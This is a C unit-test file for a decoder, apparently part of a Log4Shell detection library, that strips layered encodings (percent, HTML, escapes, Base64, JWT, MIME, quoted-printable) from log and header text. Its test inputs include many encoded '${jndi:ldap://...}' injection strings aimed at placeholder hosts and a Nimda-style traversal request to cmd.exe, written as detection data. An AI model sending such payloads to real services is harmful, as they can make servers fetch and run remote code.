/*
 * test_decode.c -- unit tests of lib/decode.c: every layer alone, stacked
 * layers and their order, invalid sequences, the offset map, the layer
 * spans, limits, NUL bytes, Base64, and linear time on adversarial input.
 * Expected values are written out by hand or produced by the independent
 * encoders below, never by the decoder itself.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "test_enc.h"

#include "test_rng.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "decode_extra.h" /* includes internal.h */

static defuse__decoder *dec;

static int setup(void **state) {
    (void)state;
    return defuse__decoder_new(&dec);
}

static int teardown(void **state) {
    (void)state;
    defuse__decoder_free(dec);
    return 0;
}

/* Decodes in[0..inl) and checks the text want[0..wl), the rounds and the
 * layers of the whole text. */
static void check_n(const char *in, size_t inl, const char *want, size_t wl, int rounds,
                    const defuse_layer *layers, size_t nlayers, unsigned flags) {
    int r = defuse__decode(dec, in, inl, flags, DEFUSE_DEFAULT_MAX_LAYERS);
    size_t n;
    const char *t = defuse__decoded_text(dec, &n);
    if (n != wl || memcmp(t, want, n) != 0)
        fail_msg("decode(\"%s\") = \"%.*s\", want \"%s\"", in, (int)n, t, want);
    assert_int_equal(r, rounds);
    assert_int_equal(t[n], '\0');
    defuse_layer got[DEFUSE_MAX_REPORTED_LAYERS];
    size_t ng = defuse__decoded_layers(dec, 0, n, got, DEFUSE_MAX_REPORTED_LAYERS);
    if (ng != nlayers)
        fail_msg("decode(\"%s\"): %zu layers, want %zu", in, ng, nlayers);
    for (size_t i = 0; i < ng; i++)
        if (got[i] != layers[i])
            fail_msg("decode(\"%s\"): layer %zu is %s, want %s", in, i, defuse_layer_name(got[i]),
                     defuse_layer_name(layers[i]));
}

static void check(const char *in, const char *want, int rounds, const defuse_layer *layers,
                  size_t nlayers, unsigned flags) {
    check_n(in, strlen(in), want, strlen(want), rounds, layers, nlayers, flags);
}

#define L(...) ((const defuse_layer[]){__VA_ARGS__}), (sizeof((const defuse_layer[]){__VA_ARGS__}) / sizeof(defuse_layer))
#define NOL NULL, 0

static void test_single_layers(void **state) {
    (void)state;
    check("%24%7Bjndi%3Aldap%3A%2F%2Fx%7d", "${jndi:ldap://x}", 1, L(DEFUSE_LAYER_PERCENT), 0);
    check("%u0024%U007B", "${", 1, L(DEFUSE_LAYER_PERCENT_U), 0);
    check("%u00e9", "\xc3\xa9", 1, L(DEFUSE_LAYER_PERCENT_U), 0);
    check("%uD83D%uDE00", "\xf0\x9f\x98\x80", 1, L(DEFUSE_LAYER_PERCENT_U), 0);
    check("\\u0024\\u007bx}", "${x}", 1, L(DEFUSE_LAYER_UNICODE), 0);
    check("\\uD83D\\uDE00", "\xf0\x9f\x98\x80", 1, L(DEFUSE_LAYER_UNICODE), 0);
    check("\\u20AC", "\xe2\x82\xac", 1, L(DEFUSE_LAYER_UNICODE), 0);
    check("\\x24\\x7B", "${", 1, L(DEFUSE_LAYER_HEX), 0);
    check("\\44\\173\\044", "${$", 1, L(DEFUSE_LAYER_OCTAL), 0);
    check("\\4", "\x04", 1, L(DEFUSE_LAYER_OCTAL), 0);
    check("\\400", " 0", 1, L(DEFUSE_LAYER_OCTAL), 0); /* \40 then '0': 0400 > 255 */
    check("&#36;&#123;", "${", 1, L(DEFUSE_LAYER_HTML), 0);
    check("&#x24;&#X7b;", "${", 1, L(DEFUSE_LAYER_HTML), 0);
    check("&#036&#0000123", "${", 1, L(DEFUSE_LAYER_HTML), 0); /* no ';', leading zeros */
    check("&dollar;&lbrace;&lcub;&rcub;&rbrace;", "${{}}", 1, L(DEFUSE_LAYER_HTML), 0);
    check("&colon;&sol;&period;&quot;&lt;&gt;&apos;&num;&percnt;&lowbar;", ":/.\"<>'#%_", 1,
          L(DEFUSE_LAYER_HTML), 0);
    check("&hyphen;&dash;", "\xe2\x80\x90\xe2\x80\x90", 1, L(DEFUSE_LAYER_HTML), 0);
    check("&amp;&AMP;&ampx&lt", "&&&x<", 1, L(DEFUSE_LAYER_HTML), 0); /* legacy names */
    check("\\\"\\/\\b\\f\\n\\r\\t\\\\z", "\"/\b\f\n\r\t\\z", 1, L(DEFUSE_LAYER_JSON), 0);
    /* A decoded backslash escapes again in the next round. */
    check("\\\\/", "/", 2, L(DEFUSE_LAYER_JSON, DEFUSE_LAYER_JSON), 0);
}

static void test_base64(void **state) {
    (void)state;
    /* "${jndi:ldap://x.example/a}:pw" */
    check("Authorization: Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06cHc=",
          "Authorization: Basic ${jndi:ldap://x.example/a}:pw", 1, L(DEFUSE_LAYER_BASE64), 0);
    check("authorization: BASIC\tJHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06cHc", /* no padding */
          "authorization: BASIC\t${jndi:ldap://x.example/a}:pw", 1, L(DEFUSE_LAYER_BASE64), 0);
    /* URL-safe alphabet: "?\?>" -> "Pz8-" */
    check("Basic Pz8-", "Basic ?\?>", 1, L(DEFUSE_LAYER_BASE64), 0);
    /* Not printable: left alone, unless the caller says it is a header. */
    check("Basic AAECAw==", "Basic AAECAw==", 0, NOL, 0);
    check_n("Basic AAECAw==", 14, "Basic \x00\x01\x02\x03", 10, 1, L(DEFUSE_LAYER_BASE64),
            DEFUSE_SCAN_BASIC_AUTH);
    /* A word ending in "basic" is not the scheme. */
    check("nonbasic JHtqbmRpOng6fQ==", "nonbasic JHtqbmRpOng6fQ==", 0, NOL, 0);
    /* Bare token with the flag; not without. */
    check("JHtqbmRpOng6fQ==", "${jndi:x:}", 1, L(DEFUSE_LAYER_BASE64), DEFUSE_SCAN_BASIC_AUTH);
    check("JHtqbmRpOng6fQ==", "JHtqbmRpOng6fQ==", 0, NOL, 0);
    /* Separator and padding percent-encoded: percent first, then Base64. */
    check("Basic%20JHtqbmRpOng6fQ%3D%3D", "Basic ${jndi:x:}", 2,
          L(DEFUSE_LAYER_PERCENT, DEFUSE_LAYER_BASE64), 0);
    /* Decoded once: the output is not taken for another token ("SGVs" would
     * decode to "Hel"). */
    check("Basic U0dWcw==", "Basic SGVs", 1, L(DEFUSE_LAYER_BASE64), 0);
    check("Basic dXNlcjpwdw==", "Basic user:pw", 1, L(DEFUSE_LAYER_BASE64), 0);
    /* The word itself must be literal: "b%61sic" is not decoded as Base64. */
    check("b%61sic JHtqbmRpOng6fQ==", "basic JHtqbmRpOng6fQ==", 1, L(DEFUSE_LAYER_PERCENT), 0);
}

/* ---- independent encoders: tests/unit/test_enc.h --------------------------- */

/* True if the decoded text of in holds want; prints it otherwise. */
static void expect_sub(const char *in, const char *want) {
    int r = defuse__decode(dec, in, strlen(in), 0, DEFUSE_DEFAULT_MAX_LAYERS);
    size_t n;
    const char *t = defuse__decoded_text(dec, &n);
    if (r <= 0 || !memmem(t, n, want, strlen(want)))
        fail_msg("decode(\"%s\") = \"%.*s\" (%d rounds), want it to hold \"%s\"", in, (int)n, t, r,
                 want);
}

static void expect_not_sub(const char *in, const char *want) {
    int r = defuse__decode(dec, in, strlen(in), 0, DEFUSE_DEFAULT_MAX_LAYERS);
    size_t n;
    const char *t = defuse__decoded_text(dec, &n);
    if (r < 0 || memmem(t, n, want, strlen(want)))
        fail_msg("decode(\"%s\") = \"%.*s\", must not hold \"%s\"", in, (int)n, t, want);
}

/* The layers of the whole decoded text include l. */
static bool has_layer(defuse_layer l) {
    size_t n;
    defuse__decoded_text(dec, &n);
    defuse_layer got[DEFUSE_MAX_REPORTED_LAYERS];
    size_t ng = defuse__decoded_layers(dec, 0, n, got, DEFUSE_MAX_REPORTED_LAYERS);
    for (size_t i = 0; i < ng; i++)
        if (got[i] == l)
            return true;
    return false;
}

/* Issue 9: Basic credentials whose separator and first token characters
 * are percent-encoded; form encoding ('+' is a space) only in form
 * context. */
static void test_basic_form(void **state) {
    (void)state;
    char tok[256], enc[1024], in[2048];
    /* "?\xe2\x82\xac" makes the second Base64 character a '+'. */
    const char *cred = "?\xe2\x82\xac ${jndi:ldap://x.example/b}";
    b64enc(cred, strlen(cred), tok, false, true);
    assert_int_equal(tok[1], '+');
    pctenc(tok, "+/=", enc);
    assert_non_null(strstr(enc, "%2B"));
    assert_true(strstr(enc, "%2B") - enc < 4); /* in the first characters */
    snprintf(in, sizeof in, "Authorization: Basic%%20%s", enc);
    expect_sub(in, "${jndi:ldap://x.example/b}");
    /* Every character of the token percent-encoded. */
    pctenc(tok, NULL, enc);
    snprintf(in, sizeof in, "Authorization: Basic%%20%s", enc);
    expect_sub(in, "${jndi:ldap://x.example/b}");
    /* Form encoding: '+' is the space. */
    const char *pw = "u:${jndi:ldap://x.example/f}";
    b64enc(pw, strlen(pw), tok, false, true);
    pctenc(tok, "+/=", enc);
    snprintf(in, sizeof in, "POST /login user=u&auth=Basic+%s", enc);
    expect_sub(in, "${jndi:ldap://x.example/f}");
    assert_true(has_layer(DEFUSE_LAYER_PLUS));
    assert_true(has_layer(DEFUSE_LAYER_BASE64));
    /* '+' in a query value is a space, elsewhere a '+'. */
    check("GET /a+b?q=c+d&r=e+f HTTP/1.1", "GET /a+b?q=c d&r=e f HTTP/1.1", 1, L(DEFUSE_LAYER_PLUS),
          0);
    check("1+1=2 x+y", "1+1=2 x+y", 0, NOL, 0);
    check("{\"q\":\"a=b\",\"c\":\"d+e\"}", "{\"q\":\"a=b\",\"c\":\"d+e\"}", 0, NOL, 0);
    /* A '+' produced by decoding stays a '+'. */
    check("q=a%2Bb", "q=a+b", 1, L(DEFUSE_LAYER_PERCENT), 0);
    /* Cookie values are not form-encoded: their '+' is Base64. */
    check("Cookie: a=b+c", "Cookie: a=b+c", 0, NOL, 0);
}

/* Issue 10: JWT segments, Base64 cookie values, MIME encoded-words,
 * quoted-printable. */
static void test_mail_tokens(void **state) {
    (void)state;
    char h[256], p[512], in[2048], q1[512], q2[512];
    const char *hdr = "{\"alg\":\"none\",\"typ\":\"JWT\"}";
    b64enc(hdr, strlen(hdr), h, true, false);
    assert_memory_equal(h, "eyJ", 3);
    const char *pl = "{\"sub\":\"${jndi:ldap://x.example/jwt}\",\"iat\":1516239022}";
    b64enc(pl, strlen(pl), p, true, false);
    snprintf(in, sizeof in, "Authorization: Bearer %s.%s.", h, p);
    expect_sub(in, "\"sub\":\"${jndi:ldap://x.example/jwt}\"");
    assert_true(has_layer(DEFUSE_LAYER_JWT));
    /* JSON escapes inside a claim: JWT, then \u. */
    const char *plu = "{\"sub\":\"\\u0024{jndi:ldap://x.example/u}\"}";
    b64enc(plu, strlen(plu), p, true, false);
    snprintf(in, sizeof in, "Cookie: session=%s.%s.c2ln", h, p);
    expect_sub(in, "${jndi:ldap://x.example/u}");
    assert_true(has_layer(DEFUSE_LAYER_JWT) && has_layer(DEFUSE_LAYER_UNICODE));
    /* Not a JWT: one segment, or garbage that is not printable. */
    snprintf(in, sizeof in, "x %s y", h);
    check(in, in, 0, NOL, 0);

    /* Base64 cookie values, standard and URL-safe, padded or not. */
    const char *ck = "${jndi:ldap://x.example/ck?a>b}";
    b64enc(ck, strlen(ck), p, false, true);
    assert_true(strpbrk(p, "+/") != NULL);
    snprintf(in, sizeof in, "Cookie: theme=dark; sid=%s; lang=en", p);
    expect_sub(in, ck);
    snprintf(in, sizeof in, "Set-Cookie: sid=\"%s\"; Path=/", p);
    expect_sub(in, ck);
    b64enc(ck, strlen(ck), p, true, false);
    snprintf(in, sizeof in, "{\"cookie\":\"a=%s\"}", p);
    expect_sub(in, ck);
    /* Padding percent-encoded. */
    b64enc(ck, strlen(ck), p, false, true);
    pctenc(p, "=", q1);
    snprintf(in, sizeof in, "cookie=a=%s", q1);
    expect_sub(in, ck);
    /* The same value outside a cookie is left alone. */
    snprintf(in, sizeof in, "GET /?sid=%s HTTP/1.1", p);
    expect_not_sub(in, ck);

    /* MIME encoded-words, B and Q, any case, joined across whitespace. */
    const char *mp = "${jndi:ldap://x.example/mail a}";
    b64enc(mp, strlen(mp), p, false, true);
    snprintf(in, sizeof in, "Subject: =?UTF-8?B?%s?= hi", p);
    expect_sub(in, "Subject: ${jndi:ldap://x.example/mail a} hi");
    assert_true(has_layer(DEFUSE_LAYER_MIME_B));
    qenc(mp, q1, true);
    snprintf(in, sizeof in, "From: =?utf-8?q?%s?=", q1);
    expect_sub(in, "From: ${jndi:ldap://x.example/mail a}");
    assert_true(has_layer(DEFUSE_LAYER_MIME_Q));
    qenc("${jndi:ldap:", q1, true);
    qenc("//x.example/two}", q2, true);
    snprintf(in, sizeof in, "Subject: =?ISO-8859-1?Q?%s?=\r\n =?Utf-8?b?", q1);
    b64enc("//x.example/two}", 16, in + strlen(in), false, true);
    strcat(in, "?= end");
    expect_sub(in, "Subject: ${jndi:ldap://x.example/two} end");
    assert_true(has_layer(DEFUSE_LAYER_MIME_Q) && has_layer(DEFUSE_LAYER_MIME_B));

    /* Quoted-printable with a soft line break. */
    qenc("${jndi:ldap://x.example/qp}", q1, false);
    size_t l = strlen(q1);
    snprintf(in, sizeof in, "body: %.*s=\r\n%s", (int)(l / 2), q1, q1 + l / 2);
    expect_sub(in, "body: ${jndi:ldap://x.example/qp}");
    assert_true(has_layer(DEFUSE_LAYER_QP));
    snprintf(in, sizeof in, "body: %.*s=\n%s", (int)(l / 2), q1, q1 + l / 2);
    expect_sub(in, "body: ${jndi:ldap://x.example/qp}");
    /* "=XX" in a line without an encoded brace stays. */
    check("GET /?a=CD&b=24 HTTP/1.1", "GET /?a=CD&b=24 HTTP/1.1", 0, NOL, 0);
}

static void test_stacked(void **state) {
    (void)state;
    check("%2524%257Bjndi%253Ax%257D", "${jndi:x}", 2, L(DEFUSE_LAYER_PERCENT, DEFUSE_LAYER_PERCENT),
          0);
    check("%252524", "$", 3, L(DEFUSE_LAYER_PERCENT, DEFUSE_LAYER_PERCENT, DEFUSE_LAYER_PERCENT), 0);
    check("&amp;#36;{", "${", 2, L(DEFUSE_LAYER_HTML, DEFUSE_LAYER_HTML), 0);
    check("\\\\u0024{", "${", 2, L(DEFUSE_LAYER_JSON, DEFUSE_LAYER_UNICODE), 0);
    check("%26%2336;{", "${", 2, L(DEFUSE_LAYER_PERCENT, DEFUSE_LAYER_HTML), 0);
    check("\\u0025\\u0032\\u0034{", "${", 2, L(DEFUSE_LAYER_UNICODE, DEFUSE_LAYER_PERCENT), 0);
    check("%%32%34{", "${", 2, L(DEFUSE_LAYER_PERCENT, DEFUSE_LAYER_PERCENT), 0);
    /* Base64 of "%24%7Bjndi:x%7D" */
    check("Basic JTI0JTdCam5kaTp4JTdE", "Basic ${jndi:x}", 2,
          L(DEFUSE_LAYER_BASE64, DEFUSE_LAYER_PERCENT), 0);
}

static void test_invalid(void **state) {
    (void)state;
    const char *same[] = {"%",       "%2",      "%zz",     "%u12",    "%uD800x", "%uDC00",
                          "\\",      "\\q",     "\\x2",    "\\u12",   "\\uD800", "\\uDFFF\\uD800",
                          "&",       "&#",      "&#;",     "&#x;",    "&#0;",    "&#xD800;",
                          "&#x110000;", "&#99999999999;", "&nosuch;", "&dollar", "&Dollar;", "a&b",
                          "plain text", "Foo$Bar %20", ""};
    for (size_t i = 0; i < DEFUSE_ARRAY_LEN(same); i++) {
        const char *s = same[i];
        /* "%20" in the last one does decode: handled separately below. */
        if (strstr(s, "%20"))
            continue;
        check(s, s, 0, NOL, 0);
    }
    check("Foo$Bar %20", "Foo$Bar  ", 1, L(DEFUSE_LAYER_PERCENT), 0);
    /* A high surrogate followed by a different marker stays. */
    check("\\uD83D%uDE00", "\\uD83D%uDE00", 0, NOL, 0);
}

static void test_origin_map(void **state) {
    (void)state;
    const char *in = "a%41b&#36;c\\u00e9d";
    /* decoded: a A b $ c C3 A9 d */
    assert_int_equal(defuse__decode(dec, in, strlen(in), 0, 8), 1);
    size_t n;
    const char *t = defuse__decoded_text(dec, &n);
    assert_int_equal(n, 8);
    assert_memory_equal(t, "aAb$c\xc3\xa9" "d", 8);
    const size_t want[] = {0, 1, 4, 5, 10, 11, 11, 17, 18};
    for (size_t i = 0; i <= n; i++)
        assert_int_equal(defuse__decoded_origin(dec, i), want[i]);
    assert_int_equal(defuse__decoded_origin(dec, 1000), strlen(in));

    defuse_layer ly[4];
    assert_int_equal(defuse__decoded_layers(dec, 0, 1, ly, 4), 0); /* "a" */
    assert_int_equal(defuse__decoded_layers(dec, 1, 2, ly, 4), 1); /* "A" */
    assert_int_equal(ly[0], DEFUSE_LAYER_PERCENT);
    assert_int_equal(defuse__decoded_layers(dec, 2, 3, ly, 4), 0); /* "b" */
    assert_int_equal(defuse__decoded_layers(dec, 3, 4, ly, 4), 1); /* "$" */
    assert_int_equal(ly[0], DEFUSE_LAYER_HTML);
    assert_int_equal(defuse__decoded_layers(dec, 6, 7, ly, 4), 1); /* 2nd byte of U+00E9 */
    assert_int_equal(ly[0], DEFUSE_LAYER_UNICODE);
    assert_int_equal(defuse__decoded_layers(dec, 0, n, ly, 4), 3);
    assert_int_equal(ly[0], DEFUSE_LAYER_PERCENT);
    assert_int_equal(ly[1], DEFUSE_LAYER_UNICODE);
    assert_int_equal(ly[2], DEFUSE_LAYER_HTML);
    assert_int_equal(defuse__decoded_layers(dec, 0, n, ly, 2), 2); /* bounded by max */
    assert_int_equal(defuse__decoded_layers(dec, 3, 3, ly, 4), 0); /* empty span */

    /* Two rounds: the span of "$" reports both, outermost first. */
    const char *in2 = "xx%26%2336;yy";
    assert_int_equal(defuse__decode(dec, in2, strlen(in2), 0, 8), 2);
    t = defuse__decoded_text(dec, &n);
    assert_int_equal(n, 5);
    assert_memory_equal(t, "xx$yy", 5);
    assert_int_equal(defuse__decoded_origin(dec, 2), 2);
    assert_int_equal(defuse__decoded_origin(dec, 3), 11);
    assert_int_equal(defuse__decoded_layers(dec, 2, 3, ly, 4), 2);
    assert_int_equal(ly[0], DEFUSE_LAYER_PERCENT);
    assert_int_equal(ly[1], DEFUSE_LAYER_HTML);
    assert_int_equal(defuse__decoded_layers(dec, 3, 5, ly, 4), 0);
}

static void test_limits_and_nul(void **state) {
    (void)state;
    const char *in = "%25252524";
    assert_int_equal(defuse__decode(dec, in, strlen(in), 0, 2), 2);
    size_t n;
    const char *t = defuse__decoded_text(dec, &n);
    assert_int_equal(n, 5);
    assert_memory_equal(t, "%2524", 5);
    assert_int_equal(defuse__decode(dec, in, strlen(in), 0, 0), 0);
    t = defuse__decoded_text(dec, &n);
    assert_int_equal(n, strlen(in));

    /* NUL bytes in and out. */
    const char nul_in[] = "a\0%00%24%7B\\0b";
    assert_int_equal(defuse__decode(dec, nul_in, sizeof nul_in - 1, 0, 8), 1);
    t = defuse__decoded_text(dec, &n);
    assert_int_equal(n, 7);
    assert_memory_equal(t, "a\0\0${\0b", 7);
    assert_int_equal(defuse__decoded_origin(dec, 2), 2);
    assert_int_equal(defuse__decoded_origin(dec, 3), 5);

    /* Fast path: nothing to decode, the text is a copy. */
    const char *clean = "2021-12-10 INFO Foo$Bar started: a=1 b=2";
    assert_int_equal(defuse__decode(dec, clean, strlen(clean), 0, 8), 0);
    t = defuse__decoded_text(dec, &n);
    assert_int_equal(n, strlen(clean));
    assert_memory_equal(t, clean, n);
    assert_int_equal(defuse__decoded_origin(dec, 5), 5);

    /* Reuse after a large input, then a small one. */
    assert_int_equal(defuse__decode(dec, "", 0, 0, 8), 0);
    t = defuse__decoded_text(dec, &n);
    assert_int_equal(n, 0);
    assert_int_equal(defuse__decoded_origin(dec, 0), 0);
}

static void test_base64_decode(void **state) {
    (void)state;
    unsigned char out[64];
    assert_int_equal(defuse__base64_decode("aWQ=", 4, out), 2);
    assert_memory_equal(out, "id", 2);
    assert_int_equal(defuse__base64_decode("aWQ", 3, out), 2);
    assert_int_equal(defuse__base64_decode("", 0, out), 0);
    assert_int_equal(defuse__base64_decode("Pz8-", 4, out), 3);
    assert_memory_equal(out, "?\?>", 3);
    assert_int_equal(defuse__base64_decode("Pz8+", 4, out), 3);
    assert_int_equal(defuse__base64_decode("Pz8_Lw", 6, out), 4);
    assert_memory_equal(out, "?\?\?/", 4);
    assert_int_equal(defuse__base64_decode("aWQ=x", 5, out), -1); /* '=' inside */
    assert_int_equal(defuse__base64_decode("aW Q=", 5, out), -1);  /* whitespace */
    assert_int_equal(defuse__base64_decode("a", 1, out), -1);      /* 1 mod 4 */
    assert_int_equal(defuse__base64_decode("aW=", 3, out), -1);    /* bad padding */
    assert_int_equal(defuse__base64_decode("a===", 4, out), -1);
    assert_int_equal(defuse__base64_decode("aGVsbG8gd29ybGQ=", 16, out), 11);
    assert_memory_equal(out, "hello world", 11);
}

/* ---- independent encoders: a payload under random stacks of layers ------- */

static uint64_t rng_state = 0x9E3779B97F4A7C15ull;
static unsigned rnd(unsigned n) {
    return test_rnd(&rng_state, n);
}

/* Encodes byte c (ASCII) one way; appends to o; returns length. */
static size_t enc_byte(unsigned char c, char *o, unsigned how) {
    switch (how) {
    case 0:
        return (size_t)sprintf(o, "%%%02X", c);
    case 1:
        return (size_t)sprintf(o, "%%u%04x", c);
    case 2:
        return (size_t)sprintf(o, "\\u%04X", c);
    case 3:
        return (size_t)sprintf(o, "\\x%02x", c);
    case 4:
        return (size_t)sprintf(o, "\\%03o", c);
    case 5:
        return (size_t)sprintf(o, "&#%u;", c);
    case 6:
        return (size_t)sprintf(o, "&#x%X;", c);
    default:
        o[0] = (char)c;
        return 1;
    }
}

static const defuse_layer enc_layer[] = {DEFUSE_LAYER_PERCENT, DEFUSE_LAYER_PERCENT_U,
                                         DEFUSE_LAYER_UNICODE, DEFUSE_LAYER_HEX,
                                         DEFUSE_LAYER_OCTAL,   DEFUSE_LAYER_HTML,
                                         DEFUSE_LAYER_HTML};

static void test_random_stacks(void **state) {
    (void)state;
    const char *payload = "${jndi:ldap://x.example:1389/a}";
    char *a = malloc(1 << 20), *b = malloc(1 << 20);
    assert_non_null(a);
    assert_non_null(b);
    for (int iter = 0; iter < 2000; iter++) {
        strcpy(a, payload);
        unsigned depth = 1 + rnd(4);
        defuse_layer want[8];
        for (unsigned d = 0; d < depth; d++) {
            /* Encode every byte of this level with one scheme (so the round
             * that undoes it reports exactly that layer). */
            unsigned how = rnd(7);
            size_t w = 0;
            for (size_t i = 0; a[i]; i++)
                w += enc_byte((unsigned char)a[i], b + w, how);
            b[w] = '\0';
            want[depth - 1 - d] = enc_layer[how];
            char *t = a;
            a = b;
            b = t;
        }
        int r = defuse__decode(dec, a, strlen(a), 0, 8);
        size_t n;
        const char *t = defuse__decoded_text(dec, &n);
        if (n != strlen(payload) || memcmp(t, payload, n) != 0)
            fail_msg("iteration %d: \"%s\" decoded to \"%.*s\"", iter, a, (int)n, t);
        assert_int_equal(r, (int)depth);
        defuse_layer got[16];
        size_t ng = defuse__decoded_layers(dec, 0, n, got, 16);
        assert_int_equal(ng, depth);
        for (unsigned d = 0; d < depth; d++)
            assert_int_equal(got[d], want[d]);
        /* Origins: monotonic, first byte at 0, end at the input length. */
        for (size_t i = 1; i <= n; i++)
            assert_true(defuse__decoded_origin(dec, i - 1) <= defuse__decoded_origin(dec, i));
        assert_int_equal(defuse__decoded_origin(dec, 0), 0);
        assert_int_equal(defuse__decoded_origin(dec, n), strlen(a));
    }
    free(a);
    free(b);
}

/* DEFUSE__DECODE_STOP_CLEAN: the decoded text holds "${" exactly when the
 * full decoding's does, and is then the same text; a line whose escapes
 * stop being able to produce "${" after the first round costs one round. */
static bool has_open(const char *t, size_t n) { return n >= 2 && memmem(t, n, "${", 2) != NULL; }

static void test_stop_clean(void **state) {
    (void)state;
    /* Nimda's double-encoded backslash: %%35c -> %5c -> \ (2 rounds). */
    const char *nimda = "GET /scripts/..%%35c../winnt/system32/cmd.exe?/c+dir HTTP/1.0";
    assert_int_equal(defuse__decode(dec, nimda, strlen(nimda), 0, 8), 2);
    assert_int_equal(defuse__decode(dec, nimda, strlen(nimda), DEFUSE__DECODE_STOP_CLEAN, 8), 1);
    const char *deep = "%252524%25257Bjndi:x}";
    assert_int_equal(defuse__decode(dec, deep, strlen(deep), DEFUSE__DECODE_STOP_CLEAN, 8), 3);
    size_t n;
    const char *t = defuse__decoded_text(dec, &n);
    assert_true(n == 9 && memcmp(t, "${jndi:x}", 9) == 0);

    static const char *const frags[] = {"${", "$", "{", "jndi:", "ldap://h/a}", "%", "5c", "\\",
                                        "x", "%25", "&", "#", "36;", "amp;", "u00", "24",
                                        "7b", "..", "/", " "};
    char *a = malloc(1 << 16), *b = malloc(1 << 16), *full = malloc(1 << 18);
    assert_non_null(a);
    assert_non_null(b);
    assert_non_null(full);
    size_t with_open = 0, shorter = 0;
    for (int iter = 0; iter < 20000; iter++) {
        size_t w = 0;
        for (unsigned k = 1 + rnd(8); k > 0; k--) {
            const char *f = frags[rnd(sizeof frags / sizeof frags[0])];
            memcpy(a + w, f, strlen(f));
            w += strlen(f);
        }
        a[w] = '\0';
        /* Up to three layers, each byte encoded (one of seven ways) or not. */
        for (unsigned d = rnd(4); d > 0; d--) {
            size_t o = 0;
            for (size_t i = 0; a[i] && o < (1 << 15); i++)
                o += enc_byte((unsigned char)a[i], b + o, rnd(2) ? rnd(7) : 7);
            b[o] = '\0';
            char *x = a;
            a = b;
            b = x;
        }
        size_t len = strlen(a), nf, ns;
        int rf = defuse__decode(dec, a, len, 0, 8);
        assert_true(rf >= 0);
        const char *tf = defuse__decoded_text(dec, &nf);
        memcpy(full, tf, nf);
        int rs = defuse__decode(dec, a, len, DEFUSE__DECODE_STOP_CLEAN, 8);
        assert_true(rs >= 0 && rs <= rf);
        const char *ts = defuse__decoded_text(dec, &ns);
        bool of = has_open(full, nf), os = has_open(ts, ns);
        if (of != os || (of && (nf != ns || memcmp(full, ts, nf) != 0)))
            fail_msg("\"%s\": full \"%.*s\" (%d rounds), stop-clean \"%.*s\" (%d)", a, (int)nf,
                     full, rf, (int)ns, ts, rs);
        with_open += of;
        shorter += rs < rf;
    }
    /* The generator must exercise both sides. */
    assert_true(with_open > 1000);
    assert_true(shorter > 1000);
    free(a);
    free(b);
    free(full);
}

/* ---- linear time on adversarial input ------------------------------------ */

/* CPU time of this process in ms: robust when the machine is shared. */
static double now_ms(void) { return (double)clock() * 1000.0 / CLOCKS_PER_SEC; }

static void test_linear_time(void **state) {
    (void)state;
    const size_t N = 1u << 20;
    char *buf = malloc(N);
    assert_non_null(buf);
    const char *pats[] = {"%25",      "&amp;",        "\\\\",         "%2",         "&#",
                          "\\u0025",  "Basic ",       "x",            "%41a",       "&#65;a",
                          "eyJa.",    "=?a?Q?=7B_",   "cookie=a=JHt", "q=a+",       "=24=7B=",
                          " eyJhbGci.eyJ"};
    /* Generous bound so that sanitizer builds pass; the release figures are
     * in docs/decoding.md.  Quadratic behaviour would take minutes. */
    double limit = getenv("DEFUSE_DECODE_MS") ? atof(getenv("DEFUSE_DECODE_MS")) : 2000.0;
    for (size_t p = 0; p < DEFUSE_ARRAY_LEN(pats); p++) {
        size_t L = strlen(pats[p]);
        for (size_t i = 0; i < N; i++)
            buf[i] = pats[p][i % L];
        double t0 = now_ms();
        int r = defuse__decode(dec, buf, N, 0, DEFUSE_DEFAULT_MAX_LAYERS);
        double ms = now_ms() - t0;
        assert_true(r >= 0);
        print_message("1 MiB of \"%s\": %d rounds, %.2f ms CPU\n", pats[p], r, ms);
        assert_true(ms < limit);
    }
    /* Layer queries over huge spans cost a binary search per round and
     * layer, not a walk over the records: 10,000 whole-text queries on a
     * line of 200,000 separate percent escapes and one HTML one at the end. */
    for (size_t i = 0; i < N; i++)
        buf[i] = "%41a"[i % 4];
    memcpy(buf + N - 8, "&#65;aaa", 8);
    assert_true(defuse__decode(dec, buf, N, 0, DEFUSE_DEFAULT_MAX_LAYERS) == 1);
    size_t n;
    defuse__decoded_text(dec, &n);
    defuse_layer ly[4];
    double t0 = now_ms();
    for (int q = 0; q < 10000; q++) {
        assert_int_equal(defuse__decoded_layers(dec, (size_t)q, n, ly, 4), 2);
        assert_int_equal(ly[0], DEFUSE_LAYER_PERCENT);
        assert_int_equal(ly[1], DEFUSE_LAYER_HTML);
    }
    double ms = now_ms() - t0;
    print_message("10000 layer queries over 1 MiB: %.2f ms CPU\n", ms);
    assert_true(ms < limit);
    free(buf);
}

/* defuse__find_open() against the plain definition on every text of up to
 * 8 bytes over "$", "{", "}" and "a", and on texts dense in one byte. */
static const char *naive_open(const char *p, size_t n) {
    for (size_t i = 0; i + 1 < n; i++)
        if (p[i] == '$' && p[i + 1] == '{')
            return p + i;
    return NULL;
}

static void test_find_open(void **state) {
    (void)state;
    static const char alpha[] = "${}a";
    char t[8];
    for (size_t n = 0; n <= sizeof t; n++) {
        size_t total = 1;
        for (size_t k = 0; k < n; k++)
            total *= 4;
        for (size_t v = 0; v < total; v++) {
            size_t x = v;
            for (size_t k = 0; k < n; k++, x /= 4)
                t[k] = alpha[x % 4];
            assert_ptr_equal(defuse__find_open(t, n), naive_open(t, n));
        }
    }
    size_t big = 1u << 16;
    char *b = malloc(big);
    assert_non_null(b);
    for (int fill = 0; fill < 2; fill++) {
        memset(b, fill ? '{' : '$', big);
        assert_null(defuse__find_open(b, big));
        b[big - 2] = '$';
        b[big - 1] = '{';
        assert_ptr_equal(defuse__find_open(b, big), b + big - 2);
        assert_null(defuse__find_open(b, big - 1));
    }
    free(b);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_single_layers), cmocka_unit_test(test_base64),
        cmocka_unit_test(test_stacked),       cmocka_unit_test(test_invalid),
        cmocka_unit_test(test_origin_map),    cmocka_unit_test(test_limits_and_nul),
        cmocka_unit_test(test_base64_decode), cmocka_unit_test(test_random_stacks),
        cmocka_unit_test(test_linear_time),   cmocka_unit_test(test_stop_clean),
        cmocka_unit_test(test_basic_form),    cmocka_unit_test(test_mail_tokens),
